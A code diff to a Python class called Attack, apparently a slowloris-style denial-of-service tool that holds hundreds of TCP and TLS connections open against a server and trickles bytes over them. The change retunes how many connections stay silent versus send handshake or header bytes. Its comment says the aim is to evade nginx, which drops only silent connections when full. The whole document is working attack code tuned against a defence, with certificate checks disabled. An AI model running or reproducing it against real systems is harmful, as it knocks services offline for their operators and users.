@@ -15,7 +15,8 @@ PAUSE_S = 0.5
 class Attack:
     """Holds as many connections as it can, up to `count`, from one address; opens lost ones anew.
 
-    Of ten, six are silent, three send a byte of a handshake now and then, one a byte of a header.
+    Of ten, one is silent, seven send a byte of a handshake now and then, two a byte of a header.
+    (nginx hangs up on silent ones when it is full, and on no others.)
     """
 
     def __init__(self, port, source, count=600):
@@ -43,7 +44,7 @@ class Attack:
                     if self._open[place] is None:
                         self._open[place] = self._connect(place)
                         self.opened += 1
-                    elif place % 10 >= 6:
+                    elif place % 10:
                         self._open[place].send(b"x")
                     self._look(self._open[place])
                 except OSError:
@@ -54,12 +55,12 @@ class Attack:
 
     def _connect(self, place):
         made = socket.create_connection(self._to, 5, (self._source, 0))
-        if place % 10 == 9:
+        if place % 10 >= 8:
             context = ssl.create_default_context()
             context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
             made = context.wrap_socket(made)
             made.send(HEADER)
-        elif place % 10 >= 6:
+        elif place % 10:
             made.send(HELLO)
         return made
 
